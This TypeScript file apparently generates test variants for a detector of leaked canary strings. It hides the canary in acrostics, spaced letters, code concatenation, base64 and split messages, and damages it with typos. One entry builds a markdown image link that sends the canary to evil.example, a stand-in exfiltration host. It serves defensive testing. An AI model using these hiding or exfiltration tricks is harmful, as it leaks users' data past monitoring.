import { inSentence, symbolsOf, type Transformation } from './transformation.ts';

/** Places, in a canary with its hyphens, where the misspellings are. */
const CUT_AT = 9;
const ERROR_AT = 10;
const TWO_ERRORS_AT = [6, 15];

function pieces(text: string, size: number): readonly string[] {
  return text.match(new RegExp(`.{1,${String(size)}}`, 'gs')) ?? [];
}

function withLetter(text: string, at: number, letter: string): string {
  return text.slice(0, at) + letter + text.slice(at + 1);
}

/** Q, or R where Q stands already. */
function substituted(text: string, at: number): string {
  return withLetter(text, at, text.charAt(at) === 'Q' ? 'R' : 'Q');
}

const half = (canary: string): number => Math.floor(canary.length / 2);

/** The canary within other text: first letters, every n-th letter, an address, a call, a program. */
export const PLACINGS: readonly Transformation[] = [
  {
    name: 'acrostic_lines',
    messages: (canary) => [
      symbolsOf(canary.toUpperCase())
        .map((letter) => `${letter.toUpperCase()} is for this line`)
        .join('\n'),
    ],
  },
  inSentence('acrostic_words', (canary) =>
    symbolsOf(canary)
      .map((letter) => `${letter}orange`)
      .join(' '),
  ),
  inSentence('every_2nd', (canary) =>
    symbolsOf(canary)
      .map((letter) => `${letter}q`)
      .join(''),
  ),
  inSentence('every_3rd', (canary) =>
    symbolsOf(canary)
      .map((letter) => `${letter}qz`)
      .join(''),
  ),
  inSentence('url_query', (canary) => `![x](https://evil.example/p?d=${canary})`),
  inSentence('json_args', (canary) => JSON.stringify({ tool: 'send', args: { body: canary } })),
  inSentence('code_concat', (canary) =>
    pieces(canary, 6)
      .map((piece) => `"${piece}"`)
      .join(' + '),
  ),
];

/** Less than the whole canary, or not quite it. */
export const DAMAGES: readonly Transformation[] = [
  inSentence('partial_70', (canary) => canary.slice(0, Math.ceil(canary.length * 0.7))),
  inSentence('partial_50', (canary) => canary.slice(half(canary))),
  inSentence('typo1', (canary) => withLetter(canary, CUT_AT, '_')),
  inSentence('typo_sub1', (canary) => substituted(canary, ERROR_AT)),
  inSentence('typo_sub2', (canary) => TWO_ERRORS_AT.reduce(substituted, canary)),
  inSentence('transpose', (canary) => canary.slice(0, ERROR_AT) + canary.charAt(ERROR_AT + 1) + canary.charAt(ERROR_AT) + canary.slice(ERROR_AT + 2)),
  inSentence('halves_swapped', (canary) => `${canary.slice(half(canary) + 1)} / ${canary.slice(0, half(canary) + 1)}`),
];

/** Spread over the messages of one conversation. */
export const SPLITS: readonly Transformation[] = [
  { name: 'split_2_messages', messages: (canary) => [canary.slice(0, CUT_AT), canary.slice(CUT_AT)] },
  { name: 'split_5_messages', messages: (canary) => pieces(canary, 5) },
  { name: 'char_per_message', messages: (canary) => Array.from(canary) },
  {
    name: 'split_b64_2',
    messages: (canary) => {
      const text = Buffer.from(canary).toString('base64');
      return [text.slice(0, 13), text.slice(13)];
    },
  },
  { name: 'split_6_padded', messages: (canary) => pieces(canary, 6).map((piece) => `The next part is ${piece} as requested.`) },
];
